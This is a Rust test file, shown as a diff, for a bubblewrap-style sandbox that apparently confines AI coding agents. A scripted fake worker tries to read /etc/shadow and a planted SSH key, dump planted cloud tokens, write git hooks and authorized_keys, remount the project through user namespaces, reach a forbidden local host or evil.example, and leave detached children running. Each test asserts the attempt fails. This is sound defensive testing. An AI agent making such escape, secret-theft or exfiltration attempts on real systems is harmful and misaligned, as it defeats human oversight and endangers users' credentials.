@@ -1,0 +1,375 @@
+//! The box with the fake worker as the adversary: it tries, from inside `persona run`, everything
+//! the OS allows (no harness switch helps here), and witnesses that cannot lie say what got out:
+//! a second local HTTP server (the "forbidden host") counting every connection, byte comparisons
+//! of every file of the project and HOME, and the process table.
+
+use std::io::{BufRead as _, Write as _};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Stdio;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use crate::kit::*;
+
+/// A local HTTP server logging every connection it accepts (before reading anything) and the
+/// request line it then reads; it answers 200.
+struct Witness {
+    port: u16,
+    log: Arc<Mutex<Vec<String>>>,
+}
+
+impl Witness {
+    fn start() -> Witness {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let log = Arc::new(Mutex::new(Vec::new()));
+        let log2 = log.clone();
+        std::thread::spawn(move || {
+            for conn in l.incoming().flatten() {
+                log2.lock().unwrap().push("connection".into());
+                let log3 = log2.clone();
+                std::thread::spawn(move || {
+                    let mut r = std::io::BufReader::new(&conn);
+                    let mut line = String::new();
+                    let _ = r.read_line(&mut line);
+                    log3.lock().unwrap().push(line.trim().to_owned());
+                    let mut w = &conn;
+                    let _ = w.write_all(
+                        b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
+                    );
+                });
+            }
+        });
+        Witness { port, log }
+    }
+    fn seen(&self) -> Vec<String> {
+        self.log.lock().unwrap().clone()
+    }
+}
+
+/// The secrets and files the adversary goes for, planted in the sandbox.
+fn plant(sb: &Sandbox) {
+    std::fs::create_dir_all(sb.project.join("src")).unwrap();
+    std::fs::write(sb.project.join("src/app.js"), "console.log('app');\n").unwrap();
+    std::fs::create_dir_all(sb.project.join(".git/hooks")).unwrap();
+    std::fs::write(sb.project.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::create_dir_all(sb.home.join(".ssh")).unwrap();
+    std::fs::write(
+        sb.home.join(".ssh/id_ed25519"),
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n",
+    )
+    .unwrap();
+    std::fs::write(sb.home.join(".bashrc"), "# my bashrc\n").unwrap();
+}
+
+fn results_for<'a>(lines: &'a [serde_json::Value], op: &str) -> Vec<&'a serde_json::Value> {
+    lines.iter().filter(|l| l["op"] == op).collect()
+}
+
+/// Every write outside the scratch, every secret read, the network by IP literal and by
+/// `localhost`, curl, and a detached child: nothing gets out. The positive controls (the model
+/// endpoint through the relay, a file in HOME = the scratch) show the adversary did run.
+fn nothing_gets_out(harness: &str) {
+    let sb = Sandbox::with_user_files();
+    plant(&sb);
+    let forbidden = Witness::start();
+    let model = Witness::start();
+    let f = forbidden.port;
+    let after = sb.kit().join("after-run.txt");
+    if harness == "codex" {
+        std::fs::write(
+            sb.codex_home.join("config.toml"),
+            format!("{CODEX_CONFIG}\nmodel_provider = \"mock\"\n[model_providers.mock]\nname = \"mock\"\nbase_url = \"http://127.0.0.1:{}/v1\"\nwire_api = \"responses\"\nenv_key = \"MOCK_API_KEY\"\n", model.port)
+                .replace("[mcp_servers.other]\ncommand = \"x\"\n", ""),
+        )
+        .unwrap();
+    }
+    let targets = [
+        sb.project.join("src/app.js"),
+        sb.project.join(".git/HEAD"),
+        sb.project.join(".git/hooks/pre-commit"),
+        sb.project.join(".claude/settings.json"),
+        sb.project.join(".leopold/persona/ACTIVE.json"),
+        sb.project.join(".leopold/persona/events.jsonl"),
+        sb.flow(),
+        sb.codex_home.join("config.toml"),
+    ];
+    // Not in the box at all: a write lands in the box's own throwaway /tmp, never outside.
+    let absent = [
+        sb.home.join(".bashrc"),
+        sb.home.join(".ssh/authorized_keys"),
+        sb.root.join("planted-at-root"),
+    ];
+    let mut script = format!(
+        "@get http://127.0.0.1:{f}/ip-literal\n@get http://localhost:{f}/localhost\n\
+         @sh curl -s -m 2 127.0.0.1:{f}/curl-scheme-less\n\
+         @get http://127.0.0.1:{}/v1/positive-control\n\
+         @read /etc/shadow\n@read {}\n\
+         @write ${{HOME}}/scratch-ok.txt\n\
+         @sh env > \"$HOME/env.txt\"; ls -la / /tmp > \"$HOME/ls.txt\" 2>&1\n\
+         @sh mount -o remount,rw,bind {p} && touch {p}/remounted\n\
+         @sh unshare -rm sh -c 'mount -o remount,rw,bind {p} && touch {p}/remounted-userns'\n\
+         @sh grep -Eq 'CapEff:.0+$' /proc/self/status && grep -Eq 'CapBnd:.0+$' /proc/self/status\n\
+         @detach 2 http://127.0.0.1:{f}/after-run {}\n",
+        model.port,
+        sb.home.join(".ssh/id_ed25519").display(),
+        after.display(),
+        p = sb.project.display(),
+    );
+    for t in targets.iter().chain(&absent) {
+        script.push_str(&format!("@write {}\n", t.display()));
+    }
+    script.push_str("@exit 0\n");
+    sb.set_script(&script);
+    let before = sb.snapshot();
+    let flow_before = std::fs::read(sb.flow()).unwrap();
+
+    let out = sb
+        .run_cmd(harness, &[])
+        .env(
+            "ANTHROPIC_BASE_URL",
+            format!("http://127.0.0.1:{}", model.port),
+        )
+        .env("MOCK_API_KEY", "none")
+        .env("AWS_SECRET_ACCESS_KEY", "planted-aws-secret")
+        .env("GITHUB_TOKEN", "planted-github-token")
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    let results = sb.results_lines();
+
+    // Positive controls: the adversary ran, reached the model endpoint, wrote its scratch.
+    let gets = results_for(&results, "get");
+    assert_eq!(gets.len(), 3, "{results:?}");
+    assert_eq!(
+        gets[2]["ok"], true,
+        "the model endpoint through the relay: {results:?}"
+    );
+    assert!(
+        model
+            .seen()
+            .iter()
+            .any(|l| l.starts_with("GET /v1/positive-control")),
+        "{:?}",
+        model.seen()
+    );
+    let run_dir = sb.run_dir();
+    assert!(
+        run_dir.join("scratch/scratch-ok.txt").exists(),
+        "HOME is the scratch"
+    );
+
+    // The environment: the supervisor's other variables never reach the box.
+    let env = std::fs::read_to_string(run_dir.join("scratch/env.txt")).unwrap();
+    assert!(env.contains("LEOPOLD_RUN_ID="), "{env}");
+    assert!(!env.contains("planted-"), "{env}");
+
+    // The network: the forbidden host saw no connection at all, by any spelling.
+    assert_eq!(gets[0]["ok"], false, "{results:?}");
+    assert_eq!(gets[1]["ok"], false, "{results:?}");
+    let sh = results_for(&results, "sh");
+    assert_eq!(sh[0]["ok"], false, "curl: {results:?}");
+    assert_eq!(sh[1]["ok"], true, "env and ls ran: {results:?}");
+    // No capability to remount the read-only project, nor a user namespace to get one in.
+    assert_eq!(sh[2]["ok"], false, "remount: {results:?}");
+    assert_eq!(
+        sh[3]["ok"], false,
+        "remount in a user namespace: {results:?}"
+    );
+    assert_eq!(
+        sh[4]["ok"], true,
+        "no capability, bounding set empty: {results:?}"
+    );
+
+    // Secrets: neither readable.
+    for r in results_for(&results, "read") {
+        assert_eq!(r["ok"], false, "{r}");
+    }
+    // Writes: every one refused, and every byte where it was.
+    let writes = results_for(&results, "write");
+    assert_eq!(writes.len(), 1 + targets.len() + absent.len());
+    for w in &writes[1..=targets.len()] {
+        assert_eq!(w["ok"], false, "read-only in the box: {w}");
+    }
+    assert_eq!(sb.snapshot(), before, "project and HOME byte-identical");
+    assert_eq!(std::fs::read(sb.flow()).unwrap(), flow_before);
+    assert!(!sb.root.join("planted-at-root").exists());
+    let events = std::fs::read_to_string(sb.persona_dir().join("events.jsonl")).unwrap();
+    assert!(!events.contains("written by the persona"));
+
+    // The detached child: gone with the run; after its time it has not acted.
+    let detach = results_for(&results, "detach");
+    assert_eq!(detach[0]["ok"], true, "{results:?}");
+    let run_id = sb.run_json()["run_id"].as_str().unwrap().to_owned();
+    assert!(processes_of_run(&run_id).is_empty());
+    assert!(!sb.proc_alive(detach[0]["pid"].as_u64().unwrap() as u32));
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!after.exists(), "the detached child acted after the run");
+    assert!(
+        forbidden.seen().is_empty(),
+        "the forbidden host was reached: {:?}",
+        forbidden.seen()
+    );
+}
+
+#[test]
+fn claude_nothing_gets_out_of_the_box() {
+    nothing_gets_out("claude");
+}
+
+#[test]
+fn codex_nothing_gets_out_of_the_box() {
+    nothing_gets_out("codex");
+}
+
+/// A remote https endpoint: the box has a CONNECT proxy that the supervisor holds to the one
+/// endpoint; a CONNECT to the forbidden host is refused outside the box.
+#[test]
+fn the_connect_proxy_admits_only_the_endpoint() {
+    let sb = Sandbox::with_user_files();
+    let forbidden = Witness::start();
+    sb.set_script(&format!(
+        "@connect 127.0.0.1:{0}\n@connect localhost:{0}\n@get http://127.0.0.1:{0}/direct\n@exit 0\n",
+        forbidden.port
+    ));
+    let out = sb
+        .run_cmd("claude", &[])
+        .env("ANTHROPIC_BASE_URL", "https://api.anthropic.com")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let results = sb.results_lines();
+    let connects = results_for(&results, "connect");
+    assert_eq!(connects.len(), 2, "{results:?}");
+    for c in connects {
+        assert!(
+            c["detail"].as_str().unwrap().contains("403"),
+            "refused by the supervisor: {c}"
+        );
+    }
+    assert!(
+        stderr(&out).contains("the box refused 2 connection(s)"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!stderr(&out).contains("https://"), "hosts only, never URLs");
+    assert!(forbidden.seen().is_empty(), "{:?}", forbidden.seen());
+}
+
+/// The guard runs inside the box: it reads the flow and ACTIVE.json there, and its denial
+/// reaches `events.jsonl` (which the box cannot write) through the supervisor's socket.
+#[test]
+fn the_guard_denies_inside_the_box_and_its_event_reaches_the_record() {
+    let sb = Sandbox::with_user_files();
+    sb.set_script("@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n");
+    let out = sb.run_cmd("claude", &[]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let events = std::fs::read_to_string(sb.persona_dir().join("events.jsonl")).unwrap();
+    let line = events
+        .lines()
+        .find(|l| l.contains("toolu_fake_1"))
+        .unwrap_or_else(|| panic!("no event for the call: {events}"));
+    let v: serde_json::Value = serde_json::from_str(line).unwrap();
+    assert_eq!(v["reason"], "outside_allowlist");
+    assert_eq!(v["host"], "evil.example");
+    let journal = sb.journal();
+    assert_eq!(journal[1]["outcome"], "denied");
+}
+
+/// The supervisor SIGKILLed mid-run: every process of the box dies with it (the worker, its
+/// grandchild, a detached child), nothing acts afterwards, and recovery restores every file.
+#[test]
+fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
+    let sb = Sandbox::with_user_files();
+    let forbidden = Witness::start();
+    let after = sb.kit().join("after-kill.txt");
+    sb.set_script(&format!(
+        "@detach 2 http://127.0.0.1:{}/after-kill {}\n@grandchild 60\n{}\n{}\n@sleep 60000\n",
+        forbidden.port,
+        after.display(),
+        claude_tool_use(
+            "t1",
+            "mcp__personastub__navigate",
+            serde_json::json!({"url":"https://staging.example.com/a"})
+        ),
+        claude_tool_ok("t1")
+    ));
+    let before = sb.snapshot();
+    let mut child = sb.spawn_paused("claude", "mid-stream");
+    let run_id =
+        serde_json::from_str::<serde_json::Value>(&std::fs::read_to_string(sb.active()).unwrap())
+            .unwrap()["run_id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+    wait_for(5, "the grandchild", || sb.grandchild_pid().is_some());
+    let detached = sb.results_lines()[0]["pid"].as_u64().unwrap() as u32;
+    assert!(sb.proc_alive(detached));
+    signal(child.id(), "KILL");
+    let _ = child.wait();
+
+    // No recovery yet: the kernel alone must have ended the box.
+    wait_for(5, "every process of the run to die", || {
+        processes_of_run(&run_id).is_empty()
+    });
+    let worker = sb.worker_record()["pid"].as_u64().unwrap() as u32;
+    for pid in [worker, sb.grandchild_pid().unwrap(), detached] {
+        assert!(!sb.proc_alive(pid), "{pid} outlived the supervisor");
+    }
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!after.exists(), "the detached child acted after the kill");
+    assert!(forbidden.seen().is_empty(), "{:?}", forbidden.seen());
+
+    let out = sb.recover();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    assert_eq!(sb.snapshot(), before);
+    assert!(!sb.active().exists());
+    assert!(
+        !Path::new(&format!("/tmp/leopold-{run_id}")).exists()
+            || std::env::var_os("XDG_RUNTIME_DIR").is_some()
+    );
+}
+
+/// A machine that cannot build the box: exit 2 naming what is missing, nothing touched; with
+/// `--no-contain` the run goes ahead and says so.
+#[test]
+fn no_box_refuses_unless_no_contain() {
+    let sb = Sandbox::with_user_files();
+    sb.set_script("@exit 0\n");
+    let before = sb.snapshot();
+    let out = sb
+        .run_cmd("claude", &[])
+        .env("__LEOPOLD_BWRAP", "/nonexistent/bwrap")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    let e = stderr(&out);
+    assert!(
+        e.contains("bubblewrap") && e.contains("--no-contain"),
+        "{e}"
+    );
+    assert_eq!(sb.snapshot(), before);
+    assert!(!sb.persona_dir().exists(), "nothing touched");
+
+    let out = sb
+        .run_cmd("claude", &["--no-contain"])
+        .env("__LEOPOLD_BWRAP", "/nonexistent/bwrap")
+        .stdout(Stdio::piped())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(stderr(&out).contains("WITHOUT the box"), "{}", stderr(&out));
+}
